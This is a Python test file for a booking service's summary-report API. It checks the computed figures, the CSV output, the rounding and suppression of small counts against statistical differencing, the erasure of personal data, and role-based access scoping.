"""The summary report (issue 10): a scripted month, seeded through the API on the manual clock,
gives a report whose every figure the test computes itself from what it did; the CSV says the
same; a publishable report (whole calendar months or quarters only) rounds every count to a
multiple of 5 and hides 1 to 4, so no differencing of published cells gives a small count back;
CSV cells never start a formula; and erasure changes nothing in it while leaving no personal
value behind."""

from __future__ import annotations

import copy
import csv
import io
import math
import random
from collections import Counter, defaultdict
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta, timezone
from typing import Any

from service.db import Pool
from service.jobs import sweep_once
from service.usecases.purge import erase
from service.usecases.uow import CLI
from tests.support.clock import ManualClock
from tests.support.units import units_of
from tests.support.world import World, new_key, site_body, unique

DAY = timedelta(days=1)
WINDOW = 30 * DAY
RETENTION_DAYS = 90
DECLINE_CODES = ["no_suitable_bed", "risk_assessment", "cannot_meet_needs", "site_full", "other"]
CANCEL_CODES = [
    "person_declined_placement",
    "person_entered_other_support",
    "transport_failed",
    "booked_in_error",
    "other",
]
CAUSES = [
    "none_active",
    "gender",
    "dependants",
    "wheelchair",
    "max_stay",
    "exclusion_zone",
    "distance",
    "no_free_bed",
    "unknown",
]
COUNTS = [
    "holds",
    "confirmations",
    "requests",
    "accepted",
    "expiries",
    "no_shows",
    "arrivals",
    "departures",
]


def month(at: datetime) -> str:
    return at.astimezone(UTC).strftime("%Y-%m")


def months(start: datetime, end: datetime) -> list[tuple[str, datetime, datetime]]:
    """The calendar months (UTC) [start, end) touches, each cut to the window."""
    cuts = []
    first = start.astimezone(UTC).replace(day=1, hour=0, minute=0, second=0, microsecond=0)
    while first < end:
        following = (first + timedelta(days=32)).replace(day=1)
        cuts.append((month(first), max(first, start), min(following, end)))
        first = following
    return cuts


def add_months(at: datetime, n: int) -> datetime:
    """The first instant (UTC) of the month `n` months after the one `at` starts."""
    index = at.year * 12 + at.month - 1 + n
    return datetime(index // 12, index % 12 + 1, 1, tzinfo=UTC)


def next_quarter(at: datetime) -> datetime:
    """The first instant (UTC) of the calendar quarter after the one `at` is in."""
    return add_months(datetime(at.year, (at.month - 1) // 3 * 3 + 1, 1, tzinfo=UTC), 3)


def published(n: int) -> int | str:
    """A count as a publishable report shows it: 0 stays 0, 1 to 4 are "<5", 5 and more are
    rounded to the nearest multiple of 5."""
    if n == 0:
        return 0
    return "<5" if n < 5 else 5 * math.floor(n / 5 + 0.5)


def overlap_days(a: tuple[datetime, datetime], b: tuple[datetime, datetime]) -> float:
    seconds = (min(a[1], b[1]) - max(a[0], b[0])).total_seconds()
    return max(seconds, 0.0) / 86400


def percentile(values: list[float], p: float) -> float:
    """PostgreSQL's percentile_cont: linear between the two nearest ranks."""
    ordered = sorted(values)
    position = p * (len(ordered) - 1)
    low = int(position)
    high = min(low + 1, len(ordered) - 1)
    return ordered[low] + (ordered[high] - ordered[low]) * (position - low)


@dataclass
class Script:
    """What the test did, as it did it: the source of every expected figure."""

    # (figure, at, site, code)
    steps: list[tuple[str, datetime, str, str | None]] = field(default_factory=list)
    # (span, minutes, at, site)
    spans: list[tuple[str, float, datetime, str]] = field(default_factory=list)
    # (site, start, end) of stays that count as used (here all departed)
    stays: list[tuple[str, datetime, datetime]] = field(default_factory=list)
    # (at, site, answers)
    feedback: list[tuple[datetime, str, dict[str, Any]]] = field(default_factory=list)
    # (at, cause): cause None when the search found a site
    searches: list[tuple[datetime, str | None]] = field(default_factory=list)
    # the personal values given, none of which may survive erasure
    personal: list[str] = field(default_factory=list)


class Month:
    """Drives the API through a month and writes down what it did."""

    def __init__(self, world: World, clock: ManualClock, db: Pool) -> None:
        self.world, self.clock, self.db = world, clock, db
        self.script = Script()
        self.holds: dict[str, datetime] = {}
        self.sites: dict[str, str] = {}  # booking id -> site id

    def step(self, figure: str, booking: str, code: str | None = None, at: Any = None) -> None:
        self.script.steps.append((figure, at or self.clock.now(), self.sites[booking], code))

    async def hold(self, site: str) -> str:
        ref, collar, notes = unique("REF"), unique("PC"), unique("ground floor please")
        self.script.personal += [ref, collar, notes]
        booking = await self.world.book(
            site, self.clock.now(), person_ref=ref, officer_collar=collar, notes=notes
        )
        self.holds[booking["id"]] = self.clock.now()
        self.sites[booking["id"]] = site
        self.step("holds", booking["id"])
        return str(booking["id"])

    def span(self, name: str, booking: str) -> None:
        minutes = (self.clock.now() - self.holds[booking]).total_seconds() / 60
        self.script.spans.append((name, minutes, self.clock.now(), self.sites[booking]))

    async def confirm(self, booking: str, *, request: bool = False) -> None:
        await self.world.act(booking, "confirm")
        if request:
            self.step("requests", booking)
        else:
            self.step("confirmations", booking)
            self.span("confirmation", booking)

    async def accept(self, booking: str) -> None:
        await self.world.act(booking, "accept", key=self.world.provider)
        self.step("accepted", booking)
        self.step("confirmations", booking)
        self.span("confirmation", booking)

    async def decline(self, booking: str, code: str) -> None:
        body = {"reason_code": code, **({"reason": "no interpreter"} if code == "other" else {})}
        await self.world.act(booking, "decline", key=self.world.provider, **body)
        self.step("declined", booking, code)

    async def cancel(self, booking: str, code: str, key: str | None = None) -> None:
        body = {"reason_code": code, **({"reason": "bail changed"} if code == "other" else {})}
        await self.world.act(booking, "cancel", key=key or self.world.officer, **body)
        self.step("cancellations", booking, code)

    async def no_show(self, booking: str) -> None:
        await self.world.act(
            booking, "no-show", key=self.world.provider, reason_code="transport_failed"
        )
        self.step("no_shows", booking)

    async def stay(self, booking: str, *, arrive_after: int, hours: float) -> None:
        """Arrive `arrive_after` minutes after the hold, check out `hours` later."""
        self.clock.set(self.holds[booking] + timedelta(minutes=arrive_after))
        await self.world.act(booking, "check-in", key=self.world.provider)
        self.step("arrivals", booking)
        self.span("arrival", booking)
        self.clock.advance(hours=hours)
        await self.world.act(booking, "check-out", key=self.world.provider)
        self.step("departures", booking)
        start = self.holds[booking]
        self.script.stays.append((self.sites[booking], start, start + DAY))

    async def feedback(self, booking: str, **answers: Any) -> None:
        words = unique("a phone to call my sister")
        self.script.personal.append(words)
        reply = await self.world.api.post(
            f"/v1/bookings/{booking}/feedback",
            {"consent": True, "language_used": "en", "what_would_help": words, **answers},
            key=self.world.provider,
        )
        assert reply.status == 201, reply.body
        self.script.feedback.append((self.clock.now(), self.sites[booking], answers))

    async def search(self, *, empty: bool) -> None:
        end = (self.clock.now() + timedelta(hours=24)).isoformat()
        if empty:  # a kilometre of open Atlantic: nothing anywhere
            params = {"end": end, "near_lat": 0, "near_lon": -30, "max_km": 1}
        else:
            params = {"end": end, "gender": "female", "near_lat": 53.8, "near_lon": -1.55}
        reply = await self.world.api.get("/v1/availability", key=self.world.officer, params=params)
        assert reply.status == 200, reply.body
        assert (reply.body["total"] == 0) == empty
        self.script.searches.append((self.clock.now(), "recorded" if empty else None))


async def _seed(world: World, clock: ManualClock, db: Pool) -> tuple[Month, dict[str, Any]]:
    """The month: two sites of one provider in two areas (an instant one with 3 beds, one
    taking requests with 2), a block, and every kind of outcome. It starts at the first instant
    of the next calendar quarter, so that quarter is a window a publishable report may cover."""
    clock.set(next_quarter(clock.now()))
    t0 = clock.now()
    m = Month(world, clock, db)
    area_1, area_2 = unique("Leeds"), unique("Bradford")
    s1 = (await world.site(area=area_1))["id"]
    s2 = (await world.site(area=area_2, booking_mode="request"))["id"]
    beds = [await world.bed(s1) for _ in range(3)] + [await world.bed(s2) for _ in range(2)]
    block = (t0 + 25 * DAY, t0 + 26 * DAY)
    reply = await world.api.post(
        f"/v1/sites/{s1}/blocks",
        {
            "bed_id": beds[0]["id"],
            "start": block[0].isoformat(),
            "end": block[1].isoformat(),
            "reason": "boiler repair",
        },
        key=world.provider,
    )
    assert reply.status == 201, reply.body

    for i in range(6):
        clock.advance(minutes=10)
        await m.search(empty=i % 3 == 2)
    # Two searches recorded with their causes (as item 2's search stores them).
    async with db.acquire() as conn:
        for cause in ("gender", "no_free_bed"):
            await conn.execute(
                "INSERT INTO search (at, role, force_code, window_start, window_end, dependants,"
                " wheelchair, near_given, sites_found, beds_found, empty_cause)"
                " VALUES ($1::timestamptz, 'officer', $2, $1, $1::timestamptz + interval '1 day',"
                " 0, false, false, 0, 0, $3)",
                clock.now(),
                world.force,
                cause,
            )
            m.script.searches.append((clock.now(), cause))

    # Days 1 to 6, instant site: stays confirmed after 2 to 12 minutes, arrivals an hour or
    # more after the hold, feedback on five of them.
    answers = [
        {"felt_safe": 5, "treated_with_respect": 5, "needs_met": "yes"},
        {"felt_safe": 4, "treated_with_respect": 5, "needs_met": "yes"},
        {"felt_safe": 4, "treated_with_respect": 3, "needs_met": "partly"},
        {"felt_safe": 2, "needs_met": "no"},
        {"felt_safe": 5, "treated_with_respect": 4},
    ]
    for day in range(1, 7):
        clock.set(t0 + day * DAY)
        booking = await m.hold(s1)
        clock.advance(minutes=2 * day)
        await m.confirm(booking)
        await m.stay(booking, arrive_after=60 + 17 * day, hours=8)
        if day <= len(answers):
            await m.feedback(booking, **answers[day - 1])

    # Day 8: a no-show (with feedback: the person was met), and three cancellations.
    clock.set(t0 + 8 * DAY)
    gone = await m.hold(s1)
    clock.advance(minutes=5)
    await m.confirm(gone)
    clock.advance(hours=2, minutes=5)
    await m.no_show(gone)
    await m.feedback(gone, felt_safe=3, needs_met="no")
    for code, key in (("transport_failed", world.provider), ("other", None)):
        booking = await m.hold(s1)
        await m.confirm(booking)
        await m.cancel(booking, code, key)
    await m.cancel(await m.hold(s1), "person_declined_placement")

    # Day 10: two holds never confirmed, written off by the sweep, dated when they lapsed.
    clock.set(t0 + 10 * DAY)
    lapsing = [await m.hold(s1), await m.hold(s1)]
    clock.advance(minutes=16)
    assert await sweep_once(units_of(db, clock)) >= 2
    for booking in lapsing:
        m.step("expiries", booking, at=m.holds[booking] + timedelta(seconds=900))

    # Days 12 to 14, request site: three accepted and stayed, two declined, one unanswered.
    for day, minutes in ((12, 20), (13, 7), (14, 29)):
        clock.set(t0 + day * DAY)
        booking = await m.hold(s2)
        clock.advance(minutes=3)
        await m.confirm(booking, request=True)
        clock.advance(minutes=minutes)
        await m.accept(booking)
        await m.stay(booking, arrive_after=minutes + 90, hours=20)
    clock.set(t0 + 16 * DAY)
    for code in ("site_full", "risk_assessment"):
        booking = await m.hold(s2)
        await m.confirm(booking, request=True)
        await m.decline(booking, code)
    unanswered = await m.hold(s2)
    clock.advance(minutes=1)
    await m.confirm(unanswered, request=True)
    clock.advance(minutes=31)
    assert await sweep_once(units_of(db, clock)) >= 1
    m.step("expiries", unanswered, at=clock.now() - timedelta(minutes=1))

    clock.set(t0 + WINDOW + timedelta(hours=1))
    places = {
        "t0": t0,
        "s1": s1,
        "s2": s2,
        "areas": {s1: area_1, s2: area_2},
        "beds": {s1: 3, s2: 2},
        "block": (s1, block),
    }
    return m, places


async def _stored_causes(db: Pool, force: str, t0: datetime) -> list[str]:
    """The causes recorded for the API's empty searches (item 2 fills them; none yet reads as
    unknown), in the order they were made."""
    async with db.acquire() as conn:
        rows = await conn.fetch(
            "SELECT coalesce(empty_cause, 'unknown') AS cause FROM search"
            " WHERE force_code = $1 AND at >= $2 AND sites_found = 0 AND api_key_id IS NOT NULL"
            " ORDER BY at",
            force,
            t0,
        )
    return [r["cause"] for r in rows]


def _expected(
    script: Script,
    places: dict[str, Any],
    key: Callable[[datetime, str], str],
    *,
    with_searches: bool,
    with_offered: bool,
    by_month: bool,
    window: tuple[datetime, datetime] | None = None,
) -> dict[str, dict[str, Any]]:
    """Every group's figures from the script alone (not publishable) over `window` (the
    script's 30 days unless given); `key` names the group of something done at an instant at
    a site."""
    t0 = places["t0"]
    window = window or (t0, t0 + WINDOW)
    groups: dict[str, dict[str, Any]] = defaultdict(dict)
    keys: set[str] = set()
    counts: dict[str, Counter[str]] = defaultdict(Counter)
    for figure, at, site, code in script.steps:
        k = key(at, site)
        keys.add(k)
        counts[k][figure] += 1
        if code is not None:
            counts[k][f"{figure}:{code}"] += 1
    spans: dict[tuple[str, str], list[float]] = defaultdict(list)
    for name, minutes, at, site in script.spans:
        spans[(key(at, site), name)].append(minutes)
    searches: dict[str, Counter[str | None]] = defaultdict(Counter)
    if with_searches:
        for at, cause in script.searches:
            keys.add(key(at, ""))
            searches[key(at, "")][cause] += 1
    feedback: dict[str, list[dict[str, Any]]] = defaultdict(list)
    for at, site, answers in script.feedback:
        feedback[key(at, site)].append(answers)
    buckets = months(*window) if by_month else [("", *window)]
    used: dict[str, float] = defaultdict(float)
    stays: Counter[str] = Counter()
    offered: dict[str, float] = defaultdict(float)
    for _month, b_start, b_end in buckets:
        for site, start, end in script.stays:
            days = overlap_days((start, end), (b_start, b_end))
            if days > 0:
                k = key(b_start, site)
                used[k] += days
                stays[k] += 1
        if with_offered:
            for site, beds in places["beds"].items():
                k = key(b_start, site)
                offered[k] += beds * overlap_days(window, (b_start, b_end))
            block_site, block = places["block"]
            offered[key(b_start, block_site)] -= overlap_days(block, (b_start, b_end))
    keys |= set(used) | set(offered) | set(feedback)

    for k in keys:
        c = counts[k]
        group: dict[str, Any] = {"key": k}
        if with_searches:
            found = searches[k]
            empty = {cause: n for cause, n in found.items() if cause is not None}
            group["searches"] = sum(found.values())
            group["searches_empty"] = sum(empty.values())
            group["searches_empty_by_cause"] = {cause: empty.get(cause, 0) for cause in CAUSES}
        else:
            group |= {"searches": None, "searches_empty": None, "searches_empty_by_cause": None}
        group |= {figure: c[figure] for figure in COUNTS}
        group["declined"] = c["declined"]
        group["declined_by_reason"] = {code: c[f"declined:{code}"] for code in DECLINE_CODES}
        group["cancellations"] = c["cancellations"]
        group["cancellations_by_reason"] = {
            code: c[f"cancellations:{code}"] for code in CANCEL_CODES
        }
        for name in ("confirmation", "arrival"):
            values = spans.get((k, name), [])
            group[f"hold_to_{name}_minutes"] = {
                "median": round(percentile(values, 0.5), 2) if values else None,
                "p90": round(percentile(values, 0.9), 2) if values else None,
                "stays": len(values),
            }
        group["bed_nights_offered"] = round(offered[k], 2) if with_offered else None
        group["bed_nights_used"] = round(used[k], 2)
        group["stays_used"] = stays[k]
        group["occupancy"] = (
            round(group["bed_nights_used"] / group["bed_nights_offered"], 4)
            if with_offered and group["bed_nights_offered"]
            else None
        )
        given = feedback[k]
        group["feedback"] = {
            "responses": len(given),
            "consented": len(given),
            **{
                scale: {str(s): sum(1 for a in given if a.get(scale) == s) for s in range(1, 6)}
                for scale in ("felt_safe", "treated_with_respect")
            },
            "needs_met": {
                answer: sum(1 for a in given if a.get("needs_met") == answer)
                for answer in ("yes", "partly", "no")
            },
        }
        groups[k] = group
    return dict(groups)


def _shown(expected: dict[str, Any], *, publishable: bool) -> dict[str, Any]:
    """The group as the API should show it: counts of 1 to 4 as "<5" and measures on fewer
    than five stays withheld when publishable; the test's own bookkeeping removed."""

    def hide(value: Any) -> Any:
        if isinstance(value, dict):
            return {k: hide(v) for k, v in value.items()}
        if publishable and isinstance(value, int) and not isinstance(value, bool):
            return published(value)
        return value

    group = dict(expected)
    stays_used = group.pop("stays_used")
    spans = {}
    for name in ("hold_to_confirmation_minutes", "hold_to_arrival_minutes"):
        span = dict(group.pop(name))
        n = span.pop("stays")
        spans[name] = span if not (publishable and 0 < n < 5) else {"median": None, "p90": None}
    measures = {k: group.pop(k) for k in ("bed_nights_offered", "bed_nights_used", "occupancy")}
    if publishable and 0 < stays_used < 5:
        measures["bed_nights_used"] = measures["occupancy"] = None
    elif publishable:
        used = 5 * math.floor(measures["bed_nights_used"] / 5 + 0.5)
        offered = measures["bed_nights_offered"]
        measures["bed_nights_used"] = float(used)
        measures["occupancy"] = round(used / offered, 4) if offered else None
    shown = hide(group) | spans | measures
    shown["key"] = expected["key"]
    return shown


def _marked(group: dict[str, Any]) -> dict[str, Any]:
    """A JSON group with each suppressed count (null there, its dotted path in `suppressed`)
    written back as "<5", as the CSV shows it; `suppressed` itself removed."""
    group = copy.deepcopy(group)
    for path in group.pop("suppressed"):
        *parents, last = path.split(".")
        holder = group
        for part in parents:
            holder = holder[part]
        assert holder[last] is None, (path, holder[last])
        holder[last] = "<5"
    return group


def _flat(group: dict[str, Any]) -> dict[str, str]:
    """A group as its CSV row should read, by column name."""

    def text(value: Any) -> str:
        return "" if value is None else str(value)

    row = {"key": text(group["key"])}
    prefixes = {
        "searches_empty_by_cause": "searches_empty_",
        "declined_by_reason": "declined_",
        "cancellations_by_reason": "cancelled_",
    }
    for name, value in group.items():
        if name == "key":
            continue
        if name in prefixes:
            causes = CAUSES if name == "searches_empty_by_cause" else value or {}
            for part in causes:
                row[prefixes[name] + part] = text(None if value is None else value[part])
        elif name.endswith("_minutes"):
            row |= {f"{name}_{m}": text(value[m]) for m in ("median", "p90")}
        elif name == "feedback":
            for part, inner in value.items():
                if isinstance(inner, dict):
                    row |= {f"feedback_{part}_{a}": text(n) for a, n in inner.items()}
                else:
                    row[f"feedback_{part}"] = text(inner)
        else:
            row[name] = text(value)
    return row


async def _report(world: World, key: str, **params: Any) -> tuple[dict[str, Any], bytes]:
    reply = await world.api.get("/v1/reports/summary", key=key, params=params)
    assert reply.status == 200, reply.body
    assert reply.content_type == "application/json"
    csv_reply = await world.api.get(
        "/v1/reports/summary", key=key, params=params, headers={"Accept": "text/csv"}
    )
    assert csv_reply.status == 200
    assert csv_reply.content_type == "text/csv"
    return reply.body, csv_reply.raw


def _is_count(column: str) -> bool:
    """Whether a CSV column is a count (not the key, a time in minutes or bed-nights)."""
    measures = ("key", "hold_to_", "bed_nights_", "occupancy")
    return not column.startswith(measures)


def _csv_rows(raw: bytes) -> list[dict[str, str]]:
    text = raw.decode("utf-8")
    assert "\r\n" in text and text.endswith("\r\n")  # RFC 4180 line ends
    return list(csv.DictReader(io.StringIO(text, newline="")))


async def test_a_scripted_month_reports_every_figure_as_done_and_survives_erasure(
    world: World, db: Pool, clock: ManualClock
) -> None:
    m, places = await _seed(world, clock, db)
    script, t0 = m.script, places["t0"]
    recorded = iter(await _stored_causes(db, world.force, t0))
    script.searches = [
        (at, next(recorded) if cause == "recorded" else cause) for at, cause in script.searches
    ]
    window = {"start": t0, "end": t0 + WINDOW}
    areas = places["areas"]
    scenarios: list[tuple[str, dict[str, Any], Callable[[datetime, str], str], dict[str, bool]]]
    scenarios = [
        # An admin by force, limited to the test's force: searches, no beds offered.
        (
            world.admin,
            {"group_by": "force", "force": world.force},
            lambda at, site: world.force,
            {"with_searches": True, "with_offered": False, "by_month": False},
        ),
        # The provider by provider: its own sites; searches are not its.
        (
            world.provider,
            {"group_by": "provider"},
            lambda at, site: world.provider_id,
            {"with_searches": False, "with_offered": True, "by_month": False},
        ),
        (
            world.provider,
            {"group_by": "area"},
            lambda at, site: areas[site],
            {"with_searches": False, "with_offered": True, "by_month": False},
        ),
        (
            world.provider,
            {"group_by": "month"},
            lambda at, site: month(at),
            {"with_searches": False, "with_offered": True, "by_month": True},
        ),
        # The officer by month: its force's searches and bookings, no beds offered.
        (
            world.officer,
            {"group_by": "month"},
            lambda at, site: month(at),
            {"with_searches": True, "with_offered": False, "by_month": True},
        ),
    ]

    # The unpublished view over the script's 30 days; the publishable one over the calendar
    # quarter they open (the only kind of window, with a month, it may cover).
    quarter = (t0, add_months(t0, 3))
    public_window = {"start": quarter[0], "end": quarter[1], "publishable": True}
    before: list[tuple[dict[str, Any], bytes, dict[str, Any], bytes]] = []
    for key, params, group_of, flags in scenarios:
        body, raw = await _report(world, key, **window, **params)
        public, public_raw = await _report(world, key, **public_window, **params)
        before.append((body, raw, public, public_raw))
        assert body["searches_attributable"] is flags["with_searches"]
        in_window = _expected(script, places, group_of, **flags)
        in_quarter = _expected(script, places, group_of, **flags, window=quarter)
        for report, report_raw, publishable, expected in (
            (body, raw, False, in_window),
            (public, public_raw, True, in_quarter),
        ):
            assert report["publishable"] is publishable
            assert report["group_by"] == params["group_by"]
            groups = {g["key"]: g for g in report["groups"]}
            assert set(groups) == set(expected), (params, set(groups), set(expected))
            # Security alerts (issue 14) are shown to admins only, by force or month, never
            # published; tests/api/test_insider.py counts them.
            admin_view = (
                key == world.admin and not publishable and params["group_by"] in ("force", "month")
            )
            for k, figures in expected.items():
                assert bool(groups[k]["suppressed"]) <= publishable, groups[k]["suppressed"]
                got = _marked(groups[k])
                alerts = (got.pop("security_alerts"), got.pop("disclosures_without_placement"))
                assert all((n is None) is not admin_view for n in alerts), (params, k, alerts)
                assert got == _shown(figures, publishable=publishable), (params, k)
            rows = _csv_rows(report_raw)
            assert [r["key"] for r in rows] == [g["key"] or "" for g in report["groups"]]
            for row, group in zip(rows, report["groups"], strict=True):
                assert row == _flat(_marked(group))
            if publishable:
                counts = [cell for row in rows for name, cell in row.items() if _is_count(name)]
                assert "<5" in counts
                assert all(cell in ("<5", "") or int(cell) % 5 == 0 for cell in counts), counts

    # The figures the script made sure of, spelled out once.
    by_force = {g["key"]: g for g in before[0][0]["groups"]}[world.force]
    assert (by_force["holds"], by_force["confirmations"], by_force["departures"]) == (18, 12, 9)
    assert by_force["declined_by_reason"]["site_full"] == 1
    assert by_force["searches"] == 8 and by_force["searches_empty"] == 4
    by_provider = {g["key"]: g for g in before[1][0]["groups"]}[world.provider_id]
    assert by_provider["bed_nights_offered"] == 149.0 and by_provider["bed_nights_used"] == 9.0
    assert by_provider["hold_to_confirmation_minutes"]["median"] is not None

    # Erasure, as `pos purge` runs it, with the clock past retention for every stay; the
    # reports are then asked again at the moment they were first asked (their stale-site list
    # is a state of that moment, not of the window).
    asked_at = clock.now()
    clock.set(t0 + WINDOW + timedelta(days=RETENTION_DAYS, hours=2))
    done = await erase(units_of(db, clock), RETENTION_DAYS, origin=CLI, wait=True)
    assert done is not None
    assert done.erased >= 18
    clock.set(asked_at)
    for (key, params, _, _), (body, raw, public, public_raw) in zip(scenarios, before, strict=True):
        assert await _report(world, key, **window, **params) == (body, raw)
        assert await _report(world, key, **public_window, **params) == (public, public_raw)
    async with db.acquire() as conn:
        rows = await conn.fetch(
            "SELECT 'booking' AS tbl, b::text AS row FROM booking b"
            " UNION ALL SELECT 'audit', a::text FROM audit a"
            " UNION ALL SELECT 'event', e::text FROM event e"
            " UNION ALL SELECT 'search', s::text FROM search s"
            " UNION ALL SELECT 'feedback', f::text FROM feedback f"
        )
    left = [(r["tbl"], v) for r in rows for v in script.personal if v in r["row"]]
    assert left == []


async def test_scope_and_bad_requests(world: World, clock: ManualClock) -> None:
    window = {"start": clock.now(), "end": clock.now() + DAY}
    path = "/v1/reports/summary"
    other_force = await world.api.get(path, key=world.officer, params={**window, "force": "zz-x"})
    assert other_force.status == 404
    other_provider = await world.api.get(
        path, key=world.provider, params={**window, "provider": world.other_provider_id}
    )
    assert other_provider.status == 404
    backwards = await world.api.get(
        path, key=world.admin, params={"start": window["end"], "end": window["start"]}
    )
    assert backwards.status == 400
    too_long = await world.api.get(
        path, key=world.admin, params={**window, "start": window["start"] - 93 * DAY}
    )
    assert too_long.status == 400
    # Another provider sees none of this provider's sites.
    site = await world.site()
    await world.bed(site["id"])
    mine = await world.api.get(path, key=world.provider, params={**window, "group_by": "provider"})
    theirs = await world.api.get(
        path, key=world.other_provider, params={**window, "group_by": "provider"}
    )
    assert [g["key"] for g in mine.body["groups"]] == [world.provider_id]
    assert world.provider_id not in [g["key"] for g in theirs.body["groups"]]
    # An officer of another force sees nothing of this force.
    force = unique("f")
    made = await world.api.post("/v1/forces", {"code": force, "name": force}, key=world.admin)
    assert made.status == 201
    stranger = await new_key(world.api, world.admin, role="officer", force=force)
    await world.book(site["id"], clock.now())
    seen = await world.api.get(path, key=stranger, params=window)
    assert seen.status == 200
    assert [g["key"] for g in seen.body["groups"]] in ([], [force])


# --- publication: differencing attacks (issue 14 item 5) --------------------------------------

Table = dict[str, dict[str, str]]


class Reader:
    """An admin reading reports as JSON (flattened as the CSV is) or as CSV: a table of cells
    by group key and column, or None when the window is refused."""

    def __init__(self, world: World, as_csv: bool, publishable: bool) -> None:
        self.world, self.as_csv, self.publishable = world, as_csv, publishable

    async def table(self, start: datetime, end: datetime, **params: Any) -> Table | None:
        params = {"start": start, "end": end, "publishable": self.publishable, **params}
        headers = {"Accept": "text/csv"} if self.as_csv else None
        reply = await self.world.api.get(
            "/v1/reports/summary", key=self.world.admin, params=params, headers=headers
        )
        if reply.status == 400:
            assert self.publishable, reply.body
            assert reply.problem_type == "validation-error"
            assert reply.field_names() and reply.field_names() <= {"start", "end"}, reply.body
            assert "publishable" in reply.body["detail"], reply.body
            return None
        assert reply.status == 200, reply.body
        if self.as_csv:
            return {row["key"]: row for row in _csv_rows(reply.raw)}
        return {g["key"] or "": _flat(_marked(g)) for g in reply.body["groups"]}


def _number(cell: str) -> int | None:
    """A count cell as the attacker reads it: a number, or nothing ("<5", empty)."""
    return int(cell) if cell.isdigit() else None


def _minus(total: dict[str, str], parts: list[dict[str, str]]) -> list[int]:
    """What `total` less the parts that show a number gives, per count column: the attack
    that recovers the one hidden part."""
    found = []
    for column in total:
        whole = _number(total[column])
        if not _is_count(column) or whole is None:
            continue
        shown = [_number(part.get(column, "")) for part in parts]
        found.append(whole - sum(n for n in shown if n is not None))
    return found


async def _attacks(
    read: Reader, provider: str, forces: list[str], early: datetime, at: datetime
) -> dict[str, list[int]]:
    """The four ways issue 14 recovered a count shown as "<5", each giving every number it can
    compute from cells an admin is shown; `at` is an instant a hold was made at."""
    jan = (early, add_months(early, 1))
    quarter = (early, add_months(early, 3))
    months = [(add_months(early, i), add_months(early, i + 1)) for i in range(3)]
    found: dict[str, list[int]] = defaultdict(list)

    # 1. A total minus its shown parts (cancellations 8 - booked in error 6 = 2), all of them
    # and each one.
    by_force = await read.table(*jan, group_by="force")
    assert by_force is not None
    for force in forces:
        row = by_force[force]
        for total, prefix in (("cancellations", "cancelled_"), ("declined", "declined_")):
            parts = [{total: cell} for column, cell in row.items() if column.startswith(prefix)]
            found["total - parts"] += _minus({total: row[total]}, parts)
            for part in parts:
                found["total - parts"] += _minus({total: row[total]}, [part])

    # 2. A month's total minus the forces shown.
    by_month = await read.table(*jan, group_by="month")
    assert by_month is not None
    month_row = by_month[month(early)]
    found["month - forces"] += _minus(month_row, list(by_force.values()))

    # 3. No filter minus one force.
    whole = await read.table(*jan, group_by="provider", provider=provider)
    assert whole is not None
    for force in forces:
        one = await read.table(*jan, group_by="provider", provider=provider, force=force)
        assert one is not None
        found["no filter - one force"] += _minus(whole[provider], [one[provider]])

    # 4. Overlapping windows: [early, t1) - [early, t0) a second apart, and a quarter less its
    # months.
    longer = await read.table(early, at + timedelta(seconds=1), group_by="provider")
    shorter = await read.table(early, at, group_by="provider")
    if longer is not None and shorter is not None:
        found["overlapping windows"] += _minus(longer[provider], [shorter[provider]])
    else:
        assert longer is None and shorter is None
    in_quarter = await read.table(*quarter, group_by="provider", provider=provider)
    assert in_quarter is not None
    tables = [await read.table(*m, group_by="provider", provider=provider) for m in months]
    rows = [t[provider] for t in tables if t is not None and provider in t]
    found["overlapping windows"] += _minus(in_quarter[provider], rows)
    for row in rows:
        found["overlapping windows"] += _minus(in_quarter[provider], [row])
    return dict(found)


async def test_differencing_publishable_reports_gives_back_no_count_from_1_to_4(
    world: World, clock: ManualClock
) -> None:
    """A quarter of this test's own, far ahead so an admin's unfiltered report holds nothing
    else: force A cancels 8 bookings in its first month (6 booked in error, 2 transport
    failed), force B 2 that month and 3 the next. Unpublished, the four attacks read 2, 3 and
    1 straight off; published, none of them gives a number from 1 to 4."""
    early = datetime(random.randrange(2200, 2900), 1, 1, tzinfo=UTC)
    clock.set(early + 2 * DAY)
    site = (await world.site(area=unique("Wakefield")))["id"]
    for _ in range(2):
        await world.bed(site)
    force_b = unique("f")
    made = await world.api.post("/v1/forces", {"code": force_b, "name": force_b}, key=world.admin)
    assert made.status == 201, made.body
    officer_b = await new_key(world.api, world.admin, role="officer", force=force_b)

    async def cancelled(officer: str, code: str) -> datetime:
        clock.advance(hours=1)
        booking = await world.book(site, clock.now(), key=officer)
        await world.act(booking["id"], "cancel", key=officer, reason_code=code)
        return clock.now()

    for code in ["booked_in_error"] * 6 + ["transport_failed"] * 2:
        await cancelled(world.officer, code)
    at = await cancelled(officer_b, "booked_in_error")
    await cancelled(officer_b, "booked_in_error")
    clock.set(add_months(early, 1) + 2 * DAY)
    for _ in range(3):
        await cancelled(officer_b, "booked_in_error")
    clock.set(add_months(early, 4))

    forces = [world.force, force_b]
    for as_csv in (False, True):
        plain = await _attacks(Reader(world, as_csv, False), world.provider_id, forces, early, at)
        # The attacks are real: with nothing protecting the figures they give 2, 3 and 1 (a
        # month less its forces gives 0 here, every force being shown; it bites when one is
        # hidden as "<5" and the others are exact, as they were before rounding).
        assert 2 in plain["total - parts"] and 2 in plain["no filter - one force"]
        assert {1, 3} <= set(plain["overlapping windows"])
        public = await _attacks(Reader(world, as_csv, True), world.provider_id, forces, early, at)
        small = {name: [n for n in found if 1 <= n <= 4] for name, found in public.items()}
        assert small == {attack: [] for attack in plain}, ("csv" if as_csv else "json", small)


async def test_a_publishable_report_covers_a_whole_calendar_month_or_quarter(
    world: World,
) -> None:
    path = "/v1/reports/summary"
    jan = datetime(2031, 1, 1, tzinfo=UTC)
    for start, end in (
        (jan, add_months(jan, 1)),
        (add_months(jan, 1), add_months(jan, 2)),
        (jan, add_months(jan, 3)),
        (add_months(jan, 9), add_months(jan, 12)),
    ):
        reply = await world.api.get(
            path, key=world.admin, params={"start": start, "end": end, "publishable": True}
        )
        assert reply.status == 200, (start, end, reply.body)
    for start, end, field_name in (
        (jan + timedelta(seconds=1), add_months(jan, 1), "start"),
        (jan, add_months(jan, 1) - timedelta(seconds=1), "end"),
        (jan, jan + DAY, "end"),
        (jan, add_months(jan, 2), "end"),
        # Three months that are not a calendar quarter.
        (add_months(jan, 1), add_months(jan, 4), "end"),
        # Midnight on the first, but not in UTC.
